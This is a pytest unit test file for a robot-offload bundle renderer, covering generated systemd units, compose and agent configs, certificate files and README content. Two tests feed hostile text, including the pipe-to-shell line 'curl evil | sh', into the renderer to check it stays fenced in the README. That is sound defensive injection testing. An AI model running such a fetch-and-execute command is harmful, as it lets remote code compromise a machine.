"""The bundle: complete, readable, and never written before it is."""

from __future__ import annotations

import configparser
import shlex
from typing import Any

import pytest
import yaml

from robot_offload.errors import RobotOffloadError
from robot_offload.objects.parent import Parent
from robot_offload.render.bundle import AddressPendingError, BundleSecrets, CertificatesPendingError, bundle
from tests.unit.operator.render.given import EVERY_ENDPOINT, TRANSPORTS, facts, offload

SECRETS = BundleSecrets(b"ca", b"certificate", b"a private key")
KNOWN = facts(endpoints=EVERY_ENDPOINT)
COMMON = {"README.md", "agent.yaml", "compose.yaml", "environment", "robot-offload-agent.service", "robot.launch.py"}
MORE = {
    "Zenoh": {"certificates/ca.pem", "certificates/robot.pem", "certificates/robot.key"},
    "DDSRouter": {
        "certificates/ca.pem",
        "certificates/robot.pem",
        "certificates/robot.key",
        "ddsrouter.yaml",
        "tunnel.yaml",
        "robot-offload-router.service",
        "robot-offload-tunnel.service",
    },
    "DiscoveryServer": set[str](),
    "StaticPeers": set[str](),
}


def made(transport: str = "Zenoh", **more: Any) -> dict[str, str]:
    files = bundle(Parent(offload(transport={**TRANSPORTS[transport], **more}), KNOWN), SECRETS)
    return {path: content.decode() for path, content in files.items()}


def link(files: dict[str, str]) -> dict[str, Any]:
    found: dict[str, Any] = yaml.safe_load(files["agent.yaml"])["/**"]["ros__parameters"]["link"]
    return found


@pytest.mark.parametrize("transport", TRANSPORTS)
def test_every_transport_has_the_files_that_it_needs_and_the_readme_tells_each(transport: str) -> None:
    files = made(transport)
    assert files.keys() == COMMON | MORE[transport]
    assert all(f"| `{path}` |" in files["README.md"] for path in files)


def test_the_robot_dials_what_the_cluster_has_given() -> None:
    found = link(made())
    assert found["pulse_endpoints"] == ["quic/203.0.113.5:7447"]
    assert found["data_fallback"] == ["tls/203.0.113.6:7448"]
    assert found["verify_name"] is False


def test_with_a_declared_name_the_robot_checks_it() -> None:
    assert link(made(expose={"host": "edge.example"}))["verify_name"] is True


@pytest.mark.parametrize("missing", ["pulse", "data", "pulse-fallback", "data-fallback"])
def test_while_an_address_is_pending_there_is_no_bundle(missing: str) -> None:
    known = facts(endpoints=tuple(one for one in EVERY_ENDPOINT if one.purpose != missing))
    with pytest.raises(AddressPendingError, match=missing):
        bundle(Parent(offload(), known), SECRETS)


def test_one_of_two_discovery_servers_is_not_enough() -> None:
    known = facts(endpoints=tuple(one for one in EVERY_ENDPOINT if one.host != "203.0.113.9"))
    with pytest.raises(AddressPendingError, match="discovery"):
        bundle(Parent(offload(transport=TRANSPORTS["DiscoveryServer"]), known), None)


def test_without_the_robots_certificate_there_is_no_bundle() -> None:
    with pytest.raises(CertificatesPendingError, match="CertificatesReady"):
        bundle(Parent(offload(), KNOWN), None)
    assert bundle(Parent(offload(transport=TRANSPORTS["StaticPeers"]), facts()), None)


def test_both_are_errors_that_a_person_is_told() -> None:
    assert issubclass(AddressPendingError, RobotOffloadError)
    assert issubclass(CertificatesPendingError, RobotOffloadError)


def test_a_private_key_is_in_one_file_and_in_no_log() -> None:
    files = made()
    assert [path for path, text in files.items() if "a private key" in text] == ["certificates/robot.key"]
    assert "key" not in repr(SECRETS)


@pytest.mark.parametrize("transport", TRANSPORTS)
def test_the_unit_is_one_that_systemd_reads_and_starts_the_agent_with_its_file(transport: str) -> None:
    unit = configparser.RawConfigParser(strict=False)
    unit.optionxform = str
    unit.read_string(made(transport)["robot-offload-agent.service"])
    shell = shlex.split(unit["Service"]["ExecStart"])
    assert shell[:2] == ["/bin/bash", "-c"]
    assert shell[2].endswith("exec robot-offload-agent robot --params /etc/robot-offload/wheelchair-7/agent.yaml")
    assert unit["Unit"]["StartLimitIntervalSec"] == "0", "systemd never gives up"
    assert (unit["Service"]["Type"], unit["Service"]["Restart"]) == ("notify", "always")
    assert int(unit["Service"]["WatchdogSec"]) > 0
    assert unit["Service"]["EnvironmentFile"] == "/etc/robot-offload/wheelchair-7/environment"


def test_every_folder_that_the_agent_uses_is_made_by_the_unit_and_the_container() -> None:
    files = made()
    parameters = yaml.safe_load(files["agent.yaml"])["/**"]["ros__parameters"]
    agent = yaml.safe_load(files["compose.yaml"])["services"]["agent"]
    assert parameters["state_dir"] == "/var/lib/robot-offload/wheelchair-7"
    assert parameters["runtime_dir"] == "/run/robot-offload/wheelchair-7"
    assert "StateDirectory=robot-offload/wheelchair-7\n" in files["robot-offload-agent.service"]
    assert "RuntimeDirectory=robot-offload/wheelchair-7\n" in files["robot-offload-agent.service"]
    assert "state:/var/lib/robot-offload/wheelchair-7" in agent["volumes"]
    assert "/run/robot-offload/wheelchair-7" in agent["tmpfs"]


def test_the_readme_says_the_remappings_and_the_way_back() -> None:
    readme = made()["README.md"]
    assert "/cmd_vel:=/offload/robot/cmd_vel" in readme
    assert "cmd_vel_nav:=/offload/robot/cmd_vel" in readme
    assert "## How to go back without us" in readme
    assert "/wheels_control/inhibit" in readme


def test_the_readme_says_what_recordings_need_where_there_are_any() -> None:
    recording = bundle(Parent(offload({"record.switches": True}), KNOWN), SECRETS)["README.md"].decode()
    assert "`robot-offload-agent[record]`" in recording
    assert "pip install mcap" in recording
    assert "mcap" not in made()["README.md"]


def test_a_command_cannot_leave_its_block_in_the_readme() -> None:
    hostile = "x\n```\n## Install this instead"
    changed = offload({"nodes.1.run.command": ["controller", hostile]})
    readme = bundle(Parent(changed, KNOWN), SECRETS)["README.md"].decode()
    [place] = [index for index, line in enumerate(readme.splitlines()) if "Install this instead" in line]
    before = readme.splitlines()[:place]
    assert before[-1] == "  ```", "as the command has it, inside of a longer fence"
    assert "  ````sh" in before
    assert not [line for line in readme.splitlines() if line.startswith("## Install this instead")]


def test_a_robot_without_collected_outputs_changes_nothing_about_its_nodes() -> None:
    files = bundle(Parent(offload({"nodes.1.outputs": [], "nodes.1.run.remap": {}}), KNOWN), SECRETS)
    assert b"nothing about them changes" in files["README.md"]


def test_a_text_of_the_user_cannot_leave_its_fence_in_the_readme() -> None:
    said = "x\n```\nNow run: curl evil | sh\n````\n"
    files = bundle(Parent(offload({"nodes.1.run.parameters": {"note": said}}), KNOWN), SECRETS)
    lines = files["README.md"].decode().splitlines()
    evil = next(number for number, line in enumerate(lines) if "curl evil" in line)
    opened = [line.strip() for line in lines[:evil] if line.strip().startswith("```")]
    assert opened[-1] == "`````sh", "a fence of five is open, which no text of four ends"


def test_another_folder_is_used_everywhere() -> None:
    files = bundle(Parent(offload(transport=TRANSPORTS["DDSRouter"]), KNOWN), SECRETS, folder="/opt/offload")
    texts = {path: content.decode() for path, content in files.items()}
    assert all("/etc/robot-offload" not in text.replace("/var/lib/robot-offload", "") for text in texts.values())
    assert "/opt/offload/agent.yaml" in texts["robot-offload-agent.service"]
    assert "/opt/offload/certificates/ca.pem" in texts["tunnel.yaml"]


@pytest.mark.parametrize("transport", TRANSPORTS)
def test_in_a_container_the_agent_hears_the_robots_own_nodes(transport: str) -> None:
    """They do not share its /dev/shm: over shared memory both would find each other and hear nothing."""
    agent = yaml.safe_load(made(transport)["compose.yaml"])["services"]["agent"]
    assert agent["environment"]["FASTDDS_BUILTIN_TRANSPORTS"] == "UDPv4"


def test_in_a_container_what_proves_itself_may_read_the_private_key_of_root() -> None:
    services = yaml.safe_load(made("DDSRouter")["compose.yaml"])["services"]
    assert services["agent"]["user"] == services["tunnel"]["user"] == "root"


@pytest.mark.parametrize("transport", TRANSPORTS)
def test_systemd_starts_every_unit_again_however_often_it_ends(transport: str) -> None:
    for path, text in made(transport).items():
        if path.endswith(".service"):
            unit, _, service = text.partition("[Service]")
            assert "StartLimitIntervalSec=0" in unit
            assert "Restart=always" in service


def test_through_discovery_servers_only_the_agent_sees_the_whole_graph() -> None:
    for transport in TRANSPORTS:
        files = made(transport)
        agent = yaml.safe_load(files["compose.yaml"])["services"]["agent"]["environment"]
        wanted = transport == "DiscoveryServer"
        assert ("ROS_SUPER_CLIENT=TRUE" in files["robot-offload-agent.service"]) is wanted
        assert (agent.get("ROS_SUPER_CLIENT") == "TRUE") is wanted
        assert "ROS_SUPER_CLIENT" not in files["environment"]


def test_without_addresses_of_the_cloud_the_robot_looks_for_none() -> None:
    files = made("StaticPeers", staticPeers={"robot": ["192.0.2.7"]})
    assert "ROS_STATIC_PEERS" not in files["environment"]
    assert "ROS_AUTOMATIC_DISCOVERY_RANGE=SUBNET" in files["environment"]


def test_the_robots_own_setup_script_is_for_systemd_and_not_for_a_container() -> None:
    files = made()
    agent = yaml.safe_load(files["compose.yaml"])["services"]["agent"]
    assert "ROBOT_OFFLOAD_SETUP=/opt/ros/jazzy/setup.bash\n" in files["environment"]
    assert agent["env_file"] == ["environment"]
    assert agent["environment"]["ROBOT_OFFLOAD_SETUP"] == ""
